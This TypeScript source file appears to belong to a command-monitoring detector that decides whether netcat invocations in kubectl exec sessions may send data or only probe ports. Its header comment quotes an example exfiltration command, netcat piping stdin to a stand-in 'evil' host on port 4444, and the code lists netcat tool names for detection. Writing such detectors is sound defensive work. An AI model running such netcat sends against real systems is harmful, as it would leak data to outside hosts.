/**
 * `attrs.exec.netcatSends` (event-fields.ts): the netcat commands of a reading that may send data.
 * netcat sends what it is given (its standard input: `kubectl exec -i`'s stream, a pipe, a file),
 * except in zero-I/O mode (`nc -zv redis 6379`, the port check every on-call engineer types), which
 * connects and sends nothing. A rule over the bag of words (`attrs.exec.command` holds `nc`, and
 * `toolWords` holds `nc -z` somewhere) cannot tell which netcat of the reading probes:
 * `nc -z evil 4444 && nc evil 4444 < /dev/stdin` holds both, and so does `which nc` beside a probe.
 * This reading judges each netcat command on its own words.
 *
 * A command is netcat when the tool it runs past its wrappers (exec-wrappers.ts) is one of
 * NETCAT_TOOLS; its words end where a wrapper's command ends (`find … -exec nc … \;`) and lose
 * their redirections when read from a script. It is in zero-I/O mode only when its options provably
 * say so, as every netcat reads them (OpenBSD's and Debian's, the traditional one, Nmap's ncat, GNU
 * netcat):
 * - a `-z` letter in a short-option cluster whose letters before it are all known switches (a
 *   letter that takes a value takes the rest of the word: `-wz` is a wait of "z"); a cluster ending
 *   in a letter not known to be a switch takes the next word as its value, so an unknown option
 *   never lets the `-z` after it count (`nc -Q -z evil 4444`);
 * - or GNU's `--zero`; a long option without `=` not known to be a switch takes the next word;
 * - options are read anywhere among the operands (glibc's getopt permutes them), up to `--`.
 * A command asking for help (`-h`, `--help`) or the version (`--version`) prints it and exits: it
 * sends nothing either.
 * Where the variants disagree on a letter (`-d`: OpenBSD's switch, ncat's delay; `-c`), it is read as
 * taking a value: a wrong guess then only raises an alert, never hides a send.
 */
import { baseName } from './exec-canonical.js';
import { operandsOf } from './exec-decode-stage.js';
import { wrapperChain } from './exec-fetched-run.js';

/** netcat's names as installed (Debian's alternatives included). */
export const NETCAT_TOOLS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'nc.openbsd', 'nc.traditional']);

/** Short options every netcat that has them reads as switches (taking no value). */
const SHORT_SWITCHES = new Set('46bCDFhklNnrStUuvZz');

/** Long options (ncat, GNU netcat) that take no value. */
const LONG_SWITCHES = new Set([
  'zero', 'udp', 'tcp', 'sctp', 'verbose', 'listen', 'keep-open', 'nodns', 'dont-resolve', 'send-only', 'recv-only',
  'no-shutdown', 'crlf', 'ssl', 'ssl-verify', 'telnet', 'version', 'help', 'broker', 'chat', 'append-output', 'close',
]);

/** Long options after which netcat sends nothing: zero-I/O mode, or a text printed before it exits. */
const LONG_QUIET = new Set(['zero', 'help', 'version']);

/** How one option word reads: whether it makes netcat send nothing, and whether it takes the next word as its value. */
function readOption(w: string): { quiet: boolean; takesNext: boolean } {
  if (w.startsWith('--')) {
    const eq = w.indexOf('=');
    const name = eq < 0 ? w.slice(2) : w.slice(2, eq);
    return { quiet: eq < 0 && LONG_QUIET.has(name), takesNext: eq < 0 && !LONG_SWITCHES.has(name) };
  }
  let quiet = false;
  for (let k = 1; k < w.length; k++) {
    const letter = w[k]!;
    if (!SHORT_SWITCHES.has(letter)) return { quiet, takesNext: k === w.length - 1 };
    if (letter === 'z' || letter === 'h') quiet = true;
  }
  return { quiet, takesNext: false };
}

/** True when the netcat command `words` (its tool word first) provably sends nothing: zero-I/O mode, help. */
export function netcatQuiet(words: readonly string[]): boolean {
  for (let i = 1; i < words.length; i++) {
    const w = words[i]!;
    if (w === '--') return false;
    if (w.length < 2 || w.charCodeAt(0) !== 0x2d) continue;
    const o = readOption(w);
    if (o.quiet) return true;
    if (o.takesNext) i++;
  }
  return false;
}

/** The netcat tools of `commands` that may send (see the header), in order, each once; never throws. */
export function netcatSends(commands: readonly (readonly string[])[], scripted: readonly boolean[]): string[] {
  const out: string[] = [];
  for (let c = 0; c < commands.length; c++) {
    const { words, chain, end } = wrapperChain(commands[c]!);
    const t = chain.length > 0 ? chain[chain.length - 1]! : -1;
    if (t < 0 || t >= end) continue;
    const tool = baseName(words[t]!);
    if (!NETCAT_TOOLS.has(tool) || out.includes(tool)) continue;
    const own = words.slice(t, end);
    const args = scripted[c] === true ? [tool, ...(operandsOf(own, 0, false) ?? [])] : own;
    if (!netcatQuiet(args)) out.push(tool);
  }
  return out;
}
